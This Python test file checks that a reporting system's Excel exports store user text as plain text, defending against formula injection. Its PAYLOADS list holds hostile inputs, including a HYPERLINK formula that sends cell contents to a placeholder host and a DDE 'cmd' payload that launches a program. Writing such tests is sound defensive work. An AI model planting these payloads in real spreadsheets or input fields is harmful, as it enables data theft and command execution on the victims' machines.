"""One neutralising writer for every workbook the system writes (formula injection).

Hole found from outside: RK text such as `=HYPERLINK(…)` became a live formula in the
pre-filled quarterly template, because it was written with a normal openpyxl cell.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from openpyxl import Workbook

from allocations.models import PlannedActivity
from dakmonev.spreadsheet.export import build_workbook
from dakmonev.spreadsheet.writer import append, put
from realisasi.exporters.error_workbook import LIST_SHEET, annotate_workbook
from realisasi.exporters.template import build_template
from realisasi.selectors.reports import report_template_spec
from tests.realisasi.report_fixtures import RK

PAYLOADS = [
    '=HYPERLINK("http://x.invalid/?d="&A1,"Klik untuk detail")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def _formulas(data: bytes) -> list[str]:
    """Names of the worksheet parts that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [
            n
            for n in zf.namelist()
            if n.startswith("xl/worksheets/") and _FORMULA.search(zf.read(n))
        ]


@pytest.mark.django_db
def test_rk_text_reaches_the_template_as_text_never_as_a_formula():
    rk = RK()
    for activity, payload in zip(rk.activities, PAYLOADS, strict=False):
        PlannedActivity.objects.filter(pk=activity.pk).update(description=payload)
    data = build_template(report_template_spec(region=rk.region, year=2024, quarter=2))
    assert _formulas(data) == []
    ws = openpyxl.load_workbook(io.BytesIO(data))["Laporan"]
    found = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for payload in PAYLOADS[: len(rk.activities)]:
        cell = found[payload]  # shown exactly as typed ...
        assert cell.data_type == "s" and cell.quotePrefix  # ... and stored as text


def test_the_writer_keeps_numbers_and_dates_typed_and_drops_unwritable_characters():
    wb = Workbook()
    ws = wb.active
    put(ws, 1, 1, Decimal("1250000.50"))
    put(ws, 1, 2, dt.datetime(2026, 3, 31, 9, 0, tzinfo=dt.UTC))
    put(ws, 1, 3, "Bel\x07um\x00 mulai")
    put(ws, 1, 4, -5)
    append(ws, ["=1+1", 7])
    buf = io.BytesIO()
    wb.save(buf)
    ws = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    assert ws["A1"].value == 1250000.5 and ws["D1"].value == -5
    assert ws["B1"].value == dt.datetime(2026, 3, 31, 16, 0)  # shown in WIB, as on the pages
    assert ws["C1"].value == "Belum mulai"
    assert ws["A2"].value == "=1+1" and ws["A2"].data_type == "s" and ws["B2"].value == 7
    assert _formulas(buf.getvalue()) == []


def test_exports_write_every_cell_through_the_writer():
    data = build_workbook(["Uraian", "=Judul"], [[p, 1] for p in PAYLOADS])
    assert _formulas(data) == []
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    # (XML stores a carriage return as a line feed; what matters is that it stays text.)
    expected = [p.replace("\r", "\n") for p in PAYLOADS]
    assert [ws.cell(r, 1).value for r in range(3, 3 + len(PAYLOADS))] == expected
    assert ws["B2"].value == "=Judul" and ws["B2"].data_type == "s"


def test_the_error_workbook_lists_what_was_typed_as_text():
    wb = Workbook()
    wb.active.title = "Laporan"
    wb.active["A1"] = "Kode Wilayah"
    buf = io.BytesIO()
    wb.save(buf)
    errors = [
        {"row": 9, "col_index": 3, "column": "Uraian", "value": PAYLOADS[0], "message": "Salah."},
        {"row": 10, "col_index": 7, "column": "=Kolom", "value": "@x", "message": "-Pesan"},
    ]
    data = annotate_workbook(buf.getvalue(), errors)
    assert _formulas(data) == []
    listed = openpyxl.load_workbook(io.BytesIO(data))[LIST_SHEET]
    assert [c.value for c in listed[2]] == ["Kesalahan", 9, "Uraian", PAYLOADS[0], "Salah."]
    assert [c.value for c in listed[3]][2:] == ["=Kolom", "@x", "-Pesan"]
